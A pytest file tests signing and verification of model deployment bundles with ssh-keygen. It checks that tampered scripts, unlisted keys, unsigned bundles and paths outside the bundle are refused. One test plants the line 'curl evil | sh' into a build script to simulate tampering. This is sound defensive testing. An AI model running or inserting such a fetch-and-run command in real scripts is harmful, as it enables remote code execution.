"""Signed bundles with real SSH keys (ssh-keygen -Y sign / verify), and what verify refuses."""
from __future__ import annotations

import json
import os
import shutil
import subprocess

import pytest

from edgesqueeze.bundle import BundleWriter, check_bundle, sign_bundle, verify_signature
from edgesqueeze.bundle.signing import SIGNATURE
from edgesqueeze.errors import InputError, VerificationError

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="ssh-keygen (OpenSSH client) not installed")


def _key(tmp_path, name):
    key = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return key


def _allowed(tmp_path, *pairs):
    path = tmp_path / "allowed_signers"
    lines = []
    for principal, key in pairs:
        kind, blob = key.with_suffix(".pub").read_text().split()[:2]
        lines.append(f'{principal} namespaces="edgesqueeze" {kind} {blob}')
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.fixture
def bundle(tmp_path):
    out = tmp_path / "bundle"
    with BundleWriter(out) as w:
        w.add_text("build_engine.sh", "#!/bin/sh\necho build\n", executable=True)
        w.add_text("models/model.fp32.onnx", "not really a model")
        w.commit({"target": {"name": "cpu"}, "precision": "fp32", "options": {}, "versions": {},
                  "models": {"fp32": "models/model.fp32.onnx", "deploy": "models/model.fp32.onnx"}, "inputs": {}})
    return out


def test_sign_and_verify_round_trip(tmp_path, bundle):
    key = _key(tmp_path, "me")
    sig = sign_bundle(bundle, key)
    assert sig == bundle / SIGNATURE and b"BEGIN SSH SIGNATURE" in sig.read_bytes()
    assert verify_signature(bundle, _allowed(tmp_path, ("me@example.com", key))) == "me@example.com"
    assert check_bundle(bundle)["extra"] == []  # the signature is not an unlisted file


def test_a_tampered_script_with_an_updated_hash_is_refused(tmp_path, bundle):
    key = _key(tmp_path, "me")
    sign_bundle(bundle, key)
    script = bundle / "build_engine.sh"
    script.write_text("#!/bin/sh\ncurl evil | sh\n")
    manifest = json.loads((bundle / "manifest.json").read_text())
    import hashlib
    manifest["files"]["build_engine.sh"] = {"sha256": hashlib.sha256(script.read_bytes()).hexdigest(),
                                            "size": script.stat().st_size}
    (bundle / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    with pytest.raises(VerificationError, match="does not verify"):
        verify_signature(bundle, _allowed(tmp_path, ("me@example.com", key)))


def test_a_key_not_allowed_is_refused(tmp_path, bundle):
    sign_bundle(bundle, _key(tmp_path, "mallory"))
    with pytest.raises(VerificationError, match="does not list"):
        verify_signature(bundle, _allowed(tmp_path, ("me@example.com", _key(tmp_path, "me"))))


def test_unsigned_is_refused_and_a_changed_bundle_is_never_signed(tmp_path, bundle):
    key = _key(tmp_path, "me")
    with pytest.raises(VerificationError, match="not signed"):
        verify_signature(bundle, _allowed(tmp_path, ("me@example.com", key)))
    (bundle / "build_engine.sh").write_text("changed")
    with pytest.raises(VerificationError):
        sign_bundle(bundle, key)
    assert not (bundle / SIGNATURE).exists()
    with pytest.raises(InputError, match="no such SSH key"):
        sign_bundle(bundle, tmp_path / "nope")


def test_links_and_models_outside_the_bundle_are_problems(tmp_path, bundle):
    outside = tmp_path / "outside.onnx"
    outside.write_text("not really a model")
    target = bundle / "models" / "model.fp32.onnx"
    target.unlink()
    os.symlink(outside, target)
    problems = check_bundle(bundle)["problems"]
    assert any("link" in p["problem"] for p in problems)
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["models"]["deploy"] = "../outside.onnx"
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    assert any("outside the bundle" in p["problem"] for p in check_bundle(bundle)["problems"])


DIGITS = __import__("pathlib").Path(__file__).resolve().parents[1] / "examples" / "digits"


def test_build_sign_verify_and_deploy_require_signature(tmp_path, capsys):
    """The CLI round trip: build --sign, verify --allowed-signers, a tampered script refused by verify and deploy."""
    from edgesqueeze.cli import main

    key = _key(tmp_path, "me")
    allowed = _allowed(tmp_path, ("me@example.com", key))
    out = tmp_path / "b"
    assert main(["-q", "build", str(DIGITS / "digits_cnn.onnx"), "-t", "orin-nano", "-p", "fp16", "--sign", str(key),
                 "--archive", "-o", str(out)]) == 0
    assert (out / SIGNATURE).is_file()
    assert main(["verify", str(out), "--allowed-signers", str(allowed)]) == 0
    assert "signed by me@example.com" in capsys.readouterr().out
    assert main(["verify", str(tmp_path / "b.tar.gz"), "--allowed-signers", str(allowed)]) == 0  # archive carries it
    script = out / "build_engine.sh"
    script.write_text(script.read_text() + "\necho owned\n")
    assert main(["verify", str(out), "--allowed-signers", str(allowed)]) == 7
    # deploy checks before it connects anywhere: the address is never reached
    assert main(["deploy", str(out), "--device", "nvidia@127.0.0.1:1", "--require-signature", str(allowed),
                 "--connect-timeout", "1"]) == 7
    assert main(["sign", str(out), "--key", str(key)]) == 7  # a changed bundle is never signed


def test_bench_checks_a_bundle_like_verify(tmp_path, capsys):
    from edgesqueeze.cli import main

    out = tmp_path / "b"
    assert main(["-q", "build", str(DIGITS / "digits_cnn.onnx"), "-t", "cpu", "-o", str(out), "--archive"]) == 0
    model = out / "models" / "model.fp32.onnx"
    model.write_bytes(model.read_bytes()[:-10] + b"0123456789")
    assert main(["bench", str(out), "-n", "5"]) == 7
    assert main(["bench", str(tmp_path / "b.tar.gz"), "-n", "5"]) == 3
    assert "bundle archive" in capsys.readouterr().err


def test_deploy_trust_policy(tmp_path, bundle):
    from edgesqueeze.deploy.core import bundle_trust

    key = _key(tmp_path, "me")
    allowed = _allowed(tmp_path, ("me@example.com", key))
    unsigned = bundle_trust(bundle, None)
    assert not unsigned["signed"] and "not signed" in unsigned["warning"]
    with pytest.raises(VerificationError, match="not signed"):
        bundle_trust(bundle, allowed)
    sign_bundle(bundle, key)
    assert bundle_trust(bundle, allowed) == {"signed": True, "verified_by": "me@example.com", "warning": None}
    assert "not checked" in bundle_trust(bundle, None)["warning"]
